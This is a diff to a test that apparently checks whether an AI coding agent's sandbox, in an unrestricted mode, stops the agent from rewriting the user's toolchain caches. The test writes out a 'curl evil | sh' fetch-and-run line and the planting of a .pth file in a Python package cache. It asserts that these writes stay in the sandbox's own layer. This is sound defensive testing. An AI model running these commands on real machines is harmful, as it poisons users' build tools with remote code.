@@ -149,12 +149,17 @@ async def test_yolo_cannot_rewrite_code_in_the_users_toolchain_caches(
     before = {str(c): snapshot(c) for c in caches}
     rewrite = " && ".join(f"echo 'curl evil | sh' > ~/{relative}" for relative in CACHED_CODE)
     plant = "echo 'import os' > ~/.cache/uv/archive-v0/XyZ/lib/python3.11/site-packages/zz.pth"
-    fake.script(commands(f"{rewrite} && {plant} && echo rewritten"))
+    line = f"{rewrite} && {plant} && echo rewritten"
+    # As a line of utilities (no cache is writable for it) and as a workspace script (which
+    # may run any build tool: every cache is, in the sandbox's own layer).
+    (project / "warm.sh").write_text(line + "\n")
+    fake.script(commands(line, "sh warm.sh"))
     async with connected(server_env(home, fake), LOCAL) as client:
         sid = await client.session_in_mode(project, "yolo")
         assert await client.prompt(sid, "warm the caches") == {"stopReason": "end_turn"}
-    [result] = tool_results(fake)
-    assert "rewritten" in result, result  # the build's writes work, in the sandbox's own layer
+    utilities, script = tool_results(fake)
+    assert "Read-only file system" in utilities and "rewritten" not in utilities, utilities
+    assert "rewritten" in script, script  # the build's writes work, in the sandbox's own layer
     assert {str(c): snapshot(c) for c in caches} == before  # the user's caches: byte for byte
 
 
